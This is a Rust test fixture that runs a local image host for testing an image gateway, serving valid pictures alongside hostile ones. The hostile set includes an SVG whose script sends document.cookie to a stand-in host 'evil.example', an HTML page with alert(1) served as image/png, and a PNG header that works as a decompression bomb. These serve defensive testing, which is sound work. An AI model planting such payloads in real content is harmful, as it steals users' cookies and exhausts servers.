//! A fixture picture host on 127.0.0.1: good pictures (a JPEG photo carrying EXIF and a
//! comment, a PNG with transparency, a GIF) and hostile ones (an SVG with script, a PNG
//! declaring 100,000 × 100,000 pixels, a JPEG cut off half way, HTML served as image/png,
//! 20 MB bodies, a redirect to a host no engine declares). Every request is counted by path.

use std::collections::BTreeMap;
use std::io::Cursor;
use std::net::TcpListener;
use std::sync::{Arc, Mutex};

use actix_web::{web, App, HttpRequest, HttpResponse, HttpServer};

/// Text hidden in the photo's metadata: never in what the gateway serves.
pub const SECRET_IN_METADATA: &str = "kidsearch-secret-location";

pub struct PictureHost {
    pub port: u16,
    state: Arc<PictureState>,
}

struct PictureState {
    port: u16,
    requests: Mutex<BTreeMap<String, usize>>,
}

impl PictureHost {
    pub fn start() -> PictureHost {
        big_jpeg();
        let listener = TcpListener::bind("127.0.0.1:0").expect("bind picture host");
        let port = listener.local_addr().expect("addr").port();
        let state = Arc::new(PictureState { port, requests: Mutex::default() });
        let data = web::Data::from(state.clone());
        let server = HttpServer::new(move || App::new().app_data(data.clone()).default_service(web::to(answer)))
            .workers(1)
            .disable_signals()
            .listen(listener)
            .expect("listen")
            .run();
        tokio::spawn(server);
        PictureHost { port, state }
    }

    pub fn base_url(&self) -> String {
        format!("http://127.0.0.1:{}", self.port)
    }

    /// Requests received for `path` (e.g. "/photo.jpg").
    pub fn requests(&self, path: &str) -> usize {
        self.state.requests.lock().expect("lock").get(path).copied().unwrap_or(0)
    }

    pub fn total_requests(&self) -> usize {
        self.state.requests.lock().expect("lock").values().sum()
    }
}

/// An 800 × 600 photo-like JPEG (gradients and texture) with an EXIF segment and a comment;
/// made once per test binary (the fixture answers must not spend the gateway's time limit).
pub fn photo_jpeg() -> Vec<u8> {
    static PHOTO: std::sync::OnceLock<Vec<u8>> = std::sync::OnceLock::new();
    PHOTO.get_or_init(make_photo_jpeg).clone()
}

/// The photo padded to 20 MB, made once.
fn big_jpeg() -> web::Bytes {
    static BIG: std::sync::OnceLock<web::Bytes> = std::sync::OnceLock::new();
    BIG.get_or_init(|| {
        let mut body = photo_jpeg();
        body.resize(TWENTY_MB, 0);
        web::Bytes::from(body)
    })
    .clone()
}

fn make_photo_jpeg() -> Vec<u8> {
    let img = image::RgbImage::from_fn(800, 600, |x, y| image::Rgb([(x * 255 / 800) as u8, (y * 255 / 600) as u8, ((x * y) % 251) as u8]));
    let mut plain = Vec::new();
    image::codecs::jpeg::JpegEncoder::new_with_quality(&mut plain, 85).encode_image(&img).expect("encode photo");
    // After SOI: APP1 "Exif" (a big-endian TIFF header with no entries, then the secret) and
    // a COM segment, as a camera or phone would leave them.
    let mut exif = b"Exif\0\0MM\0*\0\0\0\x08\0\0".to_vec();
    exif.extend_from_slice(SECRET_IN_METADATA.as_bytes());
    let mut out = plain[..2].to_vec();
    for (marker, payload) in [(0xE1u8, exif), (0xFE, format!("comment {SECRET_IN_METADATA}").into_bytes())] {
        out.extend_from_slice(&[0xFF, marker]);
        out.extend_from_slice(&((payload.len() + 2) as u16).to_be_bytes());
        out.extend_from_slice(&payload);
    }
    out.extend_from_slice(&plain[2..]);
    out
}

/// A 400 × 300 drawing with a transparent background.
pub fn drawing_png() -> Vec<u8> {
    let img = image::RgbaImage::from_fn(400, 300, |x, y| {
        let inside = (x as i32 - 200).pow(2) + (y as i32 - 150).pow(2) < 100 * 100;
        if inside {
            image::Rgba([220, 60, 30, 255])
        } else {
            image::Rgba([0, 0, 0, 0])
        }
    });
    let mut out = Vec::new();
    img.write_to(&mut Cursor::new(&mut out), image::ImageFormat::Png).expect("encode png");
    out
}

pub fn small_gif() -> Vec<u8> {
    let img = image::RgbaImage::from_fn(120, 90, |x, _| image::Rgba([0, (x * 2) as u8, 200, 255]));
    let mut out = Vec::new();
    image::DynamicImage::ImageRgba8(img).write_to(&mut Cursor::new(&mut out), image::ImageFormat::Gif).expect("encode gif");
    out
}

/// A valid PNG header declaring 100,000 × 100,000 RGBA pixels (40 GB decoded) and a few
/// bytes of data: a decompression bomb's shape.
pub fn huge_png() -> Vec<u8> {
    let mut out = b"\x89PNG\r\n\x1a\n".to_vec();
    let mut ihdr = Vec::new();
    ihdr.extend_from_slice(&100_000u32.to_be_bytes());
    ihdr.extend_from_slice(&100_000u32.to_be_bytes());
    ihdr.extend_from_slice(&[8, 6, 0, 0, 0]);
    chunk(&mut out, b"IHDR", &ihdr);
    chunk(&mut out, b"IDAT", &[0x78, 0x9c, 0x03, 0x00, 0x00, 0x00, 0x00, 0x01]);
    chunk(&mut out, b"IEND", &[]);
    out
}

fn chunk(out: &mut Vec<u8>, kind: &[u8; 4], data: &[u8]) {
    out.extend_from_slice(&(data.len() as u32).to_be_bytes());
    out.extend_from_slice(kind);
    out.extend_from_slice(data);
    let mut crc = flate2::Crc::new();
    crc.update(kind);
    crc.update(data);
    out.extend_from_slice(&crc.sum().to_be_bytes());
}

pub const SVG_WITH_SCRIPT: &str = "<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"100\" height=\"100\"><script>fetch('https://evil.example/?c='+document.cookie)</script><circle cx=\"50\" cy=\"50\" r=\"40\"/></svg>\n";
const HTML_PAGE: &str = "<!DOCTYPE html><html><head><title>Not a picture</title></head><body><script>alert(1)</script></body></html>";
const TWENTY_MB: usize = 20 * 1024 * 1024;

async fn answer(req: HttpRequest, state: web::Data<PictureState>) -> HttpResponse {
    let path = req.path().to_string();
    *state.requests.lock().expect("lock").entry(path.clone()).or_default() += 1;
    let image = |content_type: &str, body: Vec<u8>| HttpResponse::Ok().content_type(content_type.to_string()).body(body);
    match path.as_str() {
        "/drawing.png" => image("image/png", drawing_png()),
        "/small.gif" => image("image/gif", small_gif()),
        "/script.svg" => image("image/svg+xml", SVG_WITH_SCRIPT.as_bytes().to_vec()),
        // Claims to be a JPEG; is an SVG.
        "/svg-as.jpg" => image("image/jpeg", SVG_WITH_SCRIPT.as_bytes().to_vec()),
        "/huge.png" => image("image/png", huge_png()),
        "/truncated.jpg" => {
            let photo = photo_jpeg();
            image("image/jpeg", photo[..photo.len() / 2].to_vec())
        }
        "/html.png" => image("image/png", HTML_PAGE.as_bytes().to_vec()),
        // 20 MB declared up front…
        "/big.jpg" => HttpResponse::Ok().content_type("image/jpeg").body(big_jpeg()),
        // …and 20 MB sent in chunks with no declared length.
        "/big-chunked.jpg" => {
            let head = photo_jpeg();
            let chunks = std::iter::once(head).chain(std::iter::repeat_n(vec![0u8; 64 * 1024], TWENTY_MB / (64 * 1024)));
            HttpResponse::Ok().content_type("image/jpeg").streaming(futures_util::stream::iter(chunks.map(|c| Ok::<_, std::io::Error>(web::Bytes::from(c)))))
        }
        "/redirect.jpg" => HttpResponse::Found().insert_header(("Location", format!("http://localhost:{}/photo.jpg", state.port))).finish(),
        "/redirect-here.jpg" => HttpResponse::Found().insert_header(("Location", "/photo.jpg")).finish(),
        "/missing.jpg" => HttpResponse::NotFound().body("no such picture"),
        // Every other path (the engines' own thumbnail paths, rebased here) is a photo.
        _ => image("image/jpeg", photo_jpeg()),
    }
}
